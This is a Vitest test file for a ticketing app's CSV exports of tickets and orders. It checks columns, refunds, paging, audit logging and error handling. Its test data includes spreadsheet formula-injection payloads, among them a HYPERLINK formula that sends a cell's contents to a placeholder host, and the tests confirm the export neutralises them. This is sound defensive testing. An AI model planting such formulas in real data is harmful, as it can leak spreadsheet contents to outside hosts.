import { randomUUID } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import type { ReadableStream } from 'node:stream/web';
import { desc, eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { db } from '@/db/client';
import { createAccounts } from '@/db/factories';
import { auditLog, tickets } from '@/db/schema';
import type { User } from '@/lib/accounts/user';
import { toResponse } from '@/lib/http/answer';
import { operations } from '@/lib/http/operations';
import { fileReply } from '@/lib/http/readable-file';
import { exportOrders } from '@/lib/orders/export-orders';
import { exportTickets } from '@/lib/orders/export-tickets';
import { placeOrder } from '@/lib/orders/place-order';
import { refundForCustomer } from '@/lib/orders/refund-for-customer';
import { buy, holdFor, soldOut } from '@/lib/testing/bought';
import { callApi, tokenOf } from '@/lib/testing/call-api';
import { countStatements } from '@/lib/testing/count-statements';
import { readCsv } from '@/lib/testing/csv';
import { makePerformance, makeStaff, SEAT_PRICE } from '@/lib/testing/shop';

const NAMES = [
  '=HYPERLINK("http://x.test?a="&A1,"here")',
  '+82 10-1234-5678',
  '-2+3',
  '@SUM(A:A)',
  '\t=1',
  'Kim "the voice", Haneul\r\nSeoul',
  '\n=1',
  '김하늘',
];

let admin: User;
let token: string;
/** More than a page of seats, and of orders. */
let large: string;

beforeAll(async () => {
  large = await soldOut(600);
  admin = await makeStaff('admin');
  token = await tokenOf(admin);
});

/** The rows below the names of the columns, each by those names. */
function recordsOf(text: string): Record<string, string>[] {
  const [names = [], ...rows] = readCsv(text.replace(/^\ufeff/, ''));
  return rows.map((row) => Object.fromEntries(names.map((name, index) => [name, row[index] ?? ''])));
}

async function buyAs(name: string, performanceId: string, seat: number) {
  const [account] = await createAccounts({ count: 1, balance: SEAT_PRICE, name: () => name });
  if (!account) throw new Error('nobody was made');
  const user: User = { ...account, role: 'fan' };
  const holdId = await holdFor(user, performanceId, [seat]);
  return (await placeOrder(user, { holdId }, randomUUID())).result;
}

describe('the tickets of a date as CSV', () => {
  it('come back as they are, name for name, and no cell begins a formula', async () => {
    const performanceId = await makePerformance();
    for (const [index, name] of NAMES.entries()) await buyAs(name, performanceId, index);
    const answer = await callApi(operations.exportTickets, { token, query: { performanceId } });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toMatch(
      /^attachment; filename="tickets-concert-[\da-f]+-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const records = recordsOf(answer.text);
    expect(records.map((record) => record.buyer_name?.replace(/^'/, ''))).toEqual(NAMES);
    const formulas = records
      .flatMap((record) => Object.values(record))
      .filter((cell) => /^\s*[=+\-@]/.test(cell));
    expect(formulas).toEqual([]);
  });

  it('say when, in the venue’s time and in UTC, how much, what became of them and why', async () => {
    const performanceId = await makePerformance();
    const { order, buyer } = await buy(performanceId, [0, 1]);
    const [given, used] = order.tickets;
    const wish = { ticketIds: [given?.id ?? ''], reason: '=cmd' };
    await refundForCustomer(admin, order.id, wish, randomUUID());
    const usedAt = new Date('2027-05-01T10:30:05.000Z');
    await db()
      .update(tickets)
      .set({ state: 'used', usedAt })
      .where(eq(tickets.id, used?.id ?? ''));
    const { text } = await callApi(operations.exportTickets, { token, query: { performanceId } });
    expect(text).not.toContain('FR1.');
    expect(recordsOf(text)).toMatchObject([
      {
        ticket_id: given?.id,
        section: 'Stalls',
        row: 'A',
        seat: '1',
        price: '50000',
        currency: 'KRW',
        state: 'refunded',
        buyer_email: buyer.email,
        refund_reason: "'=cmd",
        used_at: '',
      },
      {
        ticket_id: used?.id,
        state: 'used',
        time_zone: 'Asia/Seoul',
        used_at: '2027-05-01 19:30:05',
        used_at_utc: '2027-05-01T10:30:05.000Z',
        refunded_at: '',
        refund_reason: '',
      },
    ]);
  });

  it('are all there, once, in the order of the seats, page by page', async () => {
    const query = { performanceId: large };
    const { text } = await callApi(operations.exportTickets, { token, query });
    expect(recordsOf(text).map(({ seat }) => Number(seat))).toEqual(
      Array.from({ length: 1_200 }, (_, seat) => seat + 1),
    );
    const orders = await callApi(operations.exportOrders, { token, query });
    const ids = recordsOf(orders.text).map(({ order_id }) => order_id ?? '');
    expect(ids).toHaveLength(600);
    expect([...new Set(ids)].sort()).toEqual(ids);
  });

  it('are the names of the columns alone when nothing is sold', async () => {
    const performanceId = await makePerformance();
    for (const operation of [operations.exportTickets, operations.exportOrders]) {
      const { text } = await callApi(operation, { token, query: { performanceId } });
      expect(readCsv(text)).toHaveLength(1);
    }
  });
});

describe('the orders as CSV', () => {
  it('say what was paid, given back and kept', async () => {
    const performanceId = await makePerformance();
    const { order } = await buy(performanceId, [0, 1]);
    const [given] = order.tickets;
    const wish = { ticketIds: [given?.id ?? ''], reason: 'Fell ill' };
    await refundForCustomer(admin, order.id, wish, randomUUID());
    const { text } = await callApi(operations.exportOrders, { token, query: { performanceId } });
    expect(recordsOf(text)).toMatchObject([
      {
        order_id: order.id,
        tickets: '2',
        tickets_refunded: '1',
        tickets_used: '0',
        total: '100000',
        refunded: '50000',
        kept: '50000',
        state: 'partly_refunded',
        refund_reasons: 'Fell ill',
        time_zone: 'Asia/Seoul',
      },
    ]);
    const all = await callApi(operations.exportOrders, { token });
    expect(all.headers.get('content-disposition')).toMatch(/filename="orders-\d{4}-\d\d-\d\d\.csv"$/);
    expect(recordsOf(all.text).map(({ order_id }) => order_id)).toContain(order.id);
  });
});

const exportsOf = async (subject: string) =>
  (await db().select().from(auditLog).where(eq(auditLog.subject, subject)).orderBy(desc(auditLog.id))).map(
    ({ action, actorId }) => [action, actorId],
  );

describe('an export', () => {
  it('is in the audit log before anybody has its first byte, and is made no faster than it is taken', async () => {
    const asker = await makeStaff('admin');
    const { statements } = await countStatements(async () => {
      const file = await exportTickets(asker, large);
      expect(await exportsOf(large)).toContainEqual(['export-tickets', asker.id]);
      const { readable } = await fileReply(file, 'text/csv');
      const reader = readable?.getReader();
      expect((await reader?.read())?.done).toBe(false);
      await reader?.cancel();
      // Nobody wants more: it has ended without reading on.
      expect(await file.pieces.next()).toEqual({ value: undefined, done: true });
    });
    expect(statements.filter((sql) => sql.includes('from tickets'))).toHaveLength(1);
  });

  it('that fails on the way breaks the connection, so that no part passes for the whole', async () => {
    const fail = async (after: number) => {
      async function* pieces() {
        for (let piece = 0; piece < after; piece++) yield Buffer.from(`${piece}\r\n`);
        throw new Error('the database is away');
      }
      const reply = await fileReply({ name: 'x.csv', pieces: pieces() }, 'text/csv');
      return toResponse({ status: 200, headers: {}, text: null, readable: reply.readable });
    };
    const server = createServer(async (_, outgoing) => {
      const { body } = await fail(3);
      await pipeline(Readable.fromWeb(body as ReadableStream), outgoing).catch(() => {});
    });
    await new Promise<void>((resolve) => {
      server.listen(0, '127.0.0.1', resolve);
    });
    try {
      const { port } = server.address() as AddressInfo;
      const response = await fetch(`http://127.0.0.1:${port}`);
      expect(response.status).toBe(200);
      await expect(response.text()).rejects.toThrow();
    } finally {
      server.closeAllConnections();
      server.close();
    }
    await expect(fail(0)).rejects.toThrow('the database is away');
  });

  it('of a date that is not there is refused and leaves no trace', async () => {
    const id = randomUUID();
    const calls = [
      callApi(operations.exportTickets, { token, query: { performanceId: id } }),
      callApi(operations.exportOrders, { token, query: { performanceId: id } }),
    ];
    for (const answer of await Promise.all(calls)) expect(answer).toMatchObject({ status: 404 });
    await expect(exportOrders(admin, id)).rejects.toMatchObject({ code: 'not-found' });
    expect(await exportsOf(id)).toEqual([]);
  });

  it.each<Record<string, string>>([
    {},
    { performanceId: '' },
    { performanceId: '=1' },
    { performanceId: '\u0000' },
  ])('of tickets needs a date: %j', async (query) => {
    expect(await callApi(operations.exportTickets, { token, query })).toMatchObject({ status: 422 });
  });
});
